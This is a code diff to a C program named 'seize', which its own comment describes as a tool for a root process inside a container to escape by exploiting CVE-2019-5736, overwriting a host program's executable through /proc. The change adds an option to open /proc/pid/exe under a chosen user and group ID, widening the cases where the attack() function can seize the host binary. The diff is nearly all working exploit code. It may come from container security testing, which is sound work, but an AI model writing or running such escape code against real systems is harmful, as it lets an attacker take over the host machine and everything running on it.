@@ -3,7 +3,8 @@
  * seize: root of a container that somebody enters, and that wants to get out (CVE-2019-5736). It
  * looks at all processes of its /proc, again and again, until there is a file /stop.
  *
- *   seize [caps]    "caps": with those capabilities alone that container engines leave
+ *   seize [caps] [as ID]    "caps": with those capabilities alone that container engines leave;
+ *                           "as": it looks as that user and group, and changes files as root
  *
  * Of a program that is no file of the container's it tries to write to the file, now and, since it
  * keeps it open, when the program has ended. When it begins it prints an empty line; then, each
@@ -24,6 +25,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/fsuid.h>
 #include <sys/prctl.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -43,6 +45,7 @@ static struct {
 } held[MANY];
 static int holding;
 static dev_t own_dev;
+static unsigned looks_as;
 
 static void check(int ok, const char *what)
 {
@@ -169,6 +172,19 @@ static int is_held(int pid, ino_t inode)
 	return i < holding;
 }
 
+/* Whoever may change his user is who runs the program, and so may look at it (ptrace(2)). */
+static int open_as(const char *path)
+{
+	int fd;
+
+	setfsgid(looks_as);
+	setfsuid(looks_as);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	setfsuid(0);
+	setfsgid(0);
+	return fd;
+}
+
 /* The moment before the exec is short: first what matters most. */
 static void attack(int pid)
 {
@@ -177,7 +193,7 @@ static void attack(int pid)
 	int fd, mem;
 
 	snprintf(path, sizeof path, "/proc/%d/exe", pid);
-	fd = open(path, O_RDONLY | O_CLOEXEC);
+	fd = open_as(path);
 	if (fd < 0)
 		return;
 	if (fstat(fd, &st) || st.st_dev == own_dev || holding == MANY || is_held(pid, st.st_ino)) {
@@ -229,6 +245,8 @@ int main(int argc, char **argv)
 	own_dev = st.st_dev;
 	if (argc > 1 && !strcmp(argv[1], "caps"))
 		drop_caps();
+	if (argc > 2 && !strcmp(argv[argc - 2], "as"))
+		looks_as = (unsigned)atoi(argv[argc - 1]);
 	alarm(LIMIT_S);
 	puts("");
 	fflush(stdout);
